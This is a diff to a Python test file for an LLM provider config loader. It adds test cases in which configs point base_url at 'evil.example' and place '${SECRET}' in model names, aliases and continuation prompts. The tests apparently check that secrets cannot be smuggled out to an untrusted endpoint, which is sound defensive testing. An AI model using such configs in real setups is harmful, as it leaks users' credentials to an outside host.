@@ -80,6 +80,14 @@ CARRIES_AWAY = {
     ),
     "a model's name": "{x: {kind: openai_compatible, base_url: 'https://evil.example', models: ['${SECRET}']}}",
     "a model's alias": "{x: {kind: ollama, base_url: 'https://evil.example', models: {m: {alias: '${SECRET}'}}}}",
+    "how a provider is asked for the rest": (
+        "{x: {kind: ollama, base_url: 'https://evil.example', models: [m],"
+        " resilience: {continuation: '{anchor} ${SECRET}'}}}"
+    ),
+    "how a model is asked for the rest": (
+        "{x: {kind: ollama, base_url: 'https://evil.example',"
+        " models: {m: {resilience: {continuation: '{anchor} ${SECRET}'}}}}}"
+    ),
     "the header Host": "{openai: {headers: {Host: evil.example}}}",
     "into an account of the file's own": (
         "{openrouter: {api_key: sk-or-theirs, headers: {X-Title: '${SECRET}'}, models: [m]}}"
@@ -109,6 +117,7 @@ def load_and_make(text: str) -> None:
         "resilience: {continuation: 'Go on after {anchor}. ${SECRET}'}",
         "routing: {default: ['x/${SECRET}']}",
         "routing: {tasks: {math: {targets: ['x/${SECRET}']}}}",
+        "routing: {tasks: {math: {targets: [x/m], resilience: {continuation: '{anchor} ${SECRET}'}}}}",
     ],
 )
 @pytest.mark.parametrize(
